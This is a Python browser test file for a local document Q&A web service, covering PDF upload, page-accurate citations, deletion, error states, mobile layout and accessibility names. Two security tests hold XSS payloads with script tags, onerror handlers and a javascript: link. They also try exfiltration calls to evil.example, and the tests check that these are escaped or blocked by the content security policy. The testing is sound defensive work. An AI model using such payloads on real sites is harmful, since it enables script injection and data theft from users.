"""What only a browser shows: drop, watch, ask, follow a citation, on the real service."""

from __future__ import annotations

import base64
import io
import re
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

from tests.browser.conftest import MAX_UPLOAD_MB, Service

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

OpenPage = Callable[..., Any]

TITLE = "Harbour handbook"
PAGES = (
    ("The harbour", "The harbour of Lindholm was built by the engineer Astrid Falk in 1874.", "It has three piers and a lighthouse."),
    ("The tide gates", "The tide gates close when the water rises above 2.4 metres.", "A keeper greases their hinges on Mondays."),
    ("Fees", "A sailing boat pays 18 crowns a night, a motor boat 26 crowns.", "Fishing vessels moor free of charge in spring."),
)
QUESTION = "When do the tide gates close?"
QUOTE = "above 2.4 metres"

DROP = """([name, type, base64]) => {
  const bytes = Uint8Array.from(atob(base64), (c) => c.charCodeAt(0));
  const data = new DataTransfer();
  data.items.add(new File([bytes], name, {type}));
  for (const kind of ["dragenter", "dragover", "drop"])
    document.querySelector(".thread").dispatchEvent(new DragEvent(kind, {dataTransfer: data, bubbles: true, cancelable: true}));
}"""

KEEP_FACTS = """() => {
  window.keptFacts = [];
  new MutationObserver(() => {
    for (const facts of document.querySelectorAll(".doc-facts")) window.keptFacts.push(facts.textContent);
  }).observe(document.body, {subtree: true, childList: true, characterData: true});
}"""

NAMELESS = """() => [...document.querySelectorAll("button, a, input, textarea, img, [role=progressbar]")]
  .filter((e) => e.getClientRects().length)
  .filter((e) => !(e.ariaLabel || e.title || e.alt || e.textContent.trim()))
  .map((e) => e.outerHTML.slice(0, 200))"""


@pytest.fixture(scope="module")
def handbook() -> bytes:
    """A PDF of three pages."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=A4)
    canvas.setTitle(TITLE)
    for title, *lines in PAGES:
        canvas.setFont("Helvetica-Bold", 20)
        canvas.drawString(72, 740, title)
        canvas.setFont("Helvetica", 12)
        for k, line in enumerate(lines):
            canvas.drawString(72, 700 - 18 * k, line)
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def drop(page: Any, name: str, data: bytes, media_type: str = "application/pdf") -> None:
    page.get_by_text("Drop files or folders anywhere").wait_for()  # the zone hears of drops once its module is loaded
    page.evaluate(DROP, [name, media_type, base64.b64encode(data).decode()])


def ask(page: Any, question: str) -> None:
    page.get_by_label("Your question").fill(question)
    page.keyboard.press("Enter")


def row(page: Any, title: str) -> Any:
    """The document's row; before it is read, its title is the file's name."""
    return page.locator("li.doc", has_text=title)


def test_a_dropped_pdf_is_read_asked_and_cited_at_its_page(open_page: OpenPage, handbook: bytes) -> None:
    page = open_page()
    page.get_by_role("heading", name="Your knowledge base is empty").wait_for()
    page.evaluate(KEEP_FACTS)
    drop(page, "harbour.pdf", handbook)

    row(page, TITLE).get_by_text("Ready", exact=True).wait_for()
    assert "3 pages" in row(page, TITLE).inner_text()
    assert {"Waiting", "In progress", "Starting", "Reading"} & {re.split(" · ", facts)[0] for facts in page.evaluate("window.keptFacts")}

    ask(page, QUESTION)
    card = page.locator("a.card").first
    card.wait_for()
    assert QUOTE in page.locator(".answer").inner_text()
    assert QUOTE in card.inner_text()

    with page.context.expect_page() as opened:
        page.locator(".answer a.mark").first.click()
    source = opened.value
    source.locator(".quote-box").first.wait_for()
    source.wait_for_function("document.querySelector('.sheet img').naturalWidth > 1000")
    assert source.title() == f"{TITLE} · Local Mind"
    assert source.get_by_label("Page number").input_value() == "2"
    assert QUOTE in source.locator("blockquote").inner_text()
    sheet, box = source.locator(".sheet").bounding_box(), source.locator(".quote-box").first.bounding_box()
    line_top = sheet["y"] + sheet["height"] * (A4[1] - 700 - 12) / A4[1]
    assert abs(box["y"] - line_top) < 0.05 * sheet["height"]

    source.get_by_role("button", name="Next page").click()
    source.locator(".quote-box").first.wait_for(state="detached")
    assert source.locator(".sheet img").get_attribute("alt") == f"Page 3 of {TITLE}"


def test_a_citation_names_the_page_of_its_quote(open_page: OpenPage, service: Service, handbook: bytes) -> None:
    service.add("harbour.pdf", handbook)
    page = open_page()
    ask(page, QUESTION)
    page.locator("a.card").first.wait_for()
    assert page.locator(".card-place").first.inner_text() == "Page 2"


def test_a_deleted_document_goes_after_a_question(open_page: OpenPage, service: Service, handbook: bytes) -> None:
    service.add("harbour.pdf", handbook)
    page = open_page()
    row(page, TITLE).hover()
    page.get_by_role("button", name=f"Delete {TITLE}").click()
    page.get_by_role("button", name="Keep it").click()
    page.get_by_role("alertdialog").wait_for(state="hidden")
    assert row(page, TITLE).count() == 1

    page.get_by_role("button", name=f"Delete {TITLE}").click()
    page.get_by_role("alertdialog").get_by_role("button", name="Delete").click()
    row(page, TITLE).wait_for(state="detached")
    page.get_by_role("heading", name="Your knowledge base is empty").wait_for()


def test_a_bad_file_says_what_is_wrong_and_can_be_tried_again(open_page: OpenPage, handbook: bytes) -> None:
    page = open_page()
    page.get_by_role("heading", name="Your knowledge base is empty").wait_for()
    drop(page, "torn.pdf", handbook[: len(handbook) // 3])
    torn = row(page, "torn")
    torn.get_by_text("Failed", exact=True).wait_for()
    assert torn.locator(".problem").inner_text().strip()
    assert torn.locator(".problem-hint").inner_text().strip()
    torn.get_by_role("button", name="Try again").click()
    torn.locator(".problem").wait_for(state="hidden")
    torn.get_by_text("Failed", exact=True).wait_for()


def test_a_document_whose_job_ends_before_the_page_looks_is_shown(open_page: OpenPage, service: Service, handbook: bytes) -> None:
    def upload_and_wait(route: Any) -> None:
        with httpx.Client(base_url=service.url) as http:
            accepted = http.post("/api/v1/sources/upload", files={"file": ("torn.pdf", handbook[: len(handbook) // 3])})
            with http.stream("GET", f"/api/v1/jobs/{accepted.json()['sources'][0]['job_id']}/events") as events:
                assert "failed" in events.read().decode()
        route.fulfill(status=accepted.status_code, json=accepted.json())

    page = open_page()
    page.get_by_role("heading", name="Your knowledge base is empty").wait_for()
    page.route("**/api/v1/sources/upload", upload_and_wait)
    drop(page, "torn.pdf", handbook[: len(handbook) // 3])
    row(page, "torn").get_by_text("Failed", exact=True).wait_for()


def test_a_file_over_the_limit_is_refused_before_it_is_sent(open_page: OpenPage) -> None:
    page = open_page()
    page.get_by_role("heading", name="Your knowledge base is empty").wait_for()
    drop(page, "big.txt", b"x" * (MAX_UPLOAD_MB * 1_000_000 + 1), "text/plain")
    page.get_by_role("alert").get_by_text(f"at most {MAX_UPLOAD_MB} MB are accepted").wait_for()
    assert page.locator("li.doc").count() == 0


def test_a_conversation_is_kept_and_another_can_be_begun(open_page: OpenPage, service: Service, handbook: bytes) -> None:
    service.add("harbour.pdf", handbook)
    page = open_page()
    ask(page, QUESTION)
    page.locator("a.card").first.wait_for()
    page.wait_for_url("**/?c=*")
    page.reload()
    page.locator(".question", has_text=QUESTION).wait_for()
    page.locator("a.card").first.wait_for()

    page.get_by_role("button", name="New conversation").click()
    page.get_by_role("heading", name="What do you want to know?").wait_for()
    page.get_by_role("button", name="Recent conversations").click()
    page.get_by_role("button", name=re.compile(f"^{re.escape(QUESTION)}")).first.click()
    page.locator(".question", has_text=QUESTION).wait_for()


def test_text_from_a_document_is_never_html(open_page: OpenPage, service: Service) -> None:
    hostile = '<img src="https://evil.example/?q" onerror="alert(1)"> tides <script>alert(2)</script>'
    source_id = service.add("notes.txt", f"Remarks about the tides.\n\n{hostile}\n\nThe end of the remarks.".encode())
    page = open_page(f"/sources/{source_id}?start=0&end=24")
    page.locator("mark").first.wait_for()
    assert page.locator("mark").first.inner_text() == "Remarks about the tides."
    assert hostile in page.locator(".reading").inner_text()
    assert page.locator(".reading img, .reading script").count() == 0


@pytest.mark.parametrize("colors", ["light", "dark"])
def test_a_phone_shows_one_column_that_fits(open_page: OpenPage, service: Service, handbook: bytes, colors: str) -> None:
    service.add("harbour.pdf", handbook)
    page = open_page(viewport={"width": 390, "height": 844}, color_scheme=colors, has_touch=True, is_mobile=True)
    ask(page, QUESTION)
    page.locator("a.card").first.wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    assert not row(page, TITLE).is_visible()
    page.get_by_role("button", name="Documents").click()
    row(page, TITLE).wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    brightness = sum(map(int, re.findall(r"\d+", background)[:3])) / 3
    assert (brightness < 60) is (colors == "dark")


def test_everything_that_can_be_used_has_a_name(open_page: OpenPage, service: Service, handbook: bytes) -> None:
    source_id = service.add("harbour.pdf", handbook)
    page = open_page()
    ask(page, QUESTION)
    page.locator("a.card").first.wait_for()
    assert page.evaluate(NAMELESS) == []
    page.goto(f"{service.url}/sources/{source_id}?page=2")
    page.locator(".sheet img").wait_for()
    assert page.evaluate(NAMELESS) == []


def test_a_source_that_is_not_there_is_a_page_that_says_so(browser: Any, service: Service) -> None:
    page = browser.new_page()
    for path, words in (("/sources/nosuchsource", "This document is not here"), ("/nosuchpage", "There is no such page")):
        assert page.goto(service.url + path).status == 404
        page.get_by_role("heading", name=words).wait_for()
    page.close()


INTRUDE = """() => {
  window.intruded = [];
  const box = document.createElement("div");
  box.innerHTML = '<img src="nosuch.png" onerror="intruded.push(1)"><a id="lure" href="javascript:intruded.push(2)">x</a>';
  document.body.append(box);
  const script = document.createElement("script");
  script.textContent = "intruded.push(3)";
  document.body.append(script);
  document.getElementById("lure").click();
  const remote = new Image();
  remote.src = "https://evil.example/?what-was-read";
  const failed = new Promise((done) => box.querySelector("img").addEventListener("error", done));
  return failed.then(() => fetch("https://evil.example/", {mode: "no-cors"})).then(() => "sent", () => "refused");
}"""


def test_html_that_got_into_the_page_can_neither_run_nor_send(browser: Any, service: Service) -> None:
    """The second wall, behind the one that keeps HTML out: what the content security policy refuses in a real browser."""
    page = browser.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if "Content Security Policy" in message.text else None)
    page.goto(service.url)
    page.get_by_label("Your question").wait_for()
    assert page.evaluate(INTRUDE) == "refused"
    assert page.evaluate("window.intruded") == []
    assert len(refused) >= 5
    page.close()


def test_the_api_docs_work_under_their_policy(open_page: OpenPage) -> None:
    page = open_page("/docs")
    page.get_by_text("/api/v1/sources/upload").first.wait_for()
